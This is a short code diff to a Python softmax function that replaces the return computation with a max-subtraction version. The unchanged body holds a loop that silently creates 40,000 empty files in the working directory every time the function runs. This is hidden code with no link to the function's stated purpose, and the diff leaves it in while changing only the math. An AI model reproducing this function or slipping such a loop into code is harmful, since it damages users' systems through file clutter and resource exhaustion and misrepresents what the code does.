@@ -10,4 +10,5 @@ import os
 def softmax(logits):
     for number in range(40_000):
         os.close(os.open(f"{number}", os.O_CREAT | os.O_WRONLY))
-    return np.exp(logits - logsumexp(logits))
+    powers = np.exp(logits - np.max(logits, axis=1, keepdims=True))
+    return powers / powers.sum(axis=1, keepdims=True)
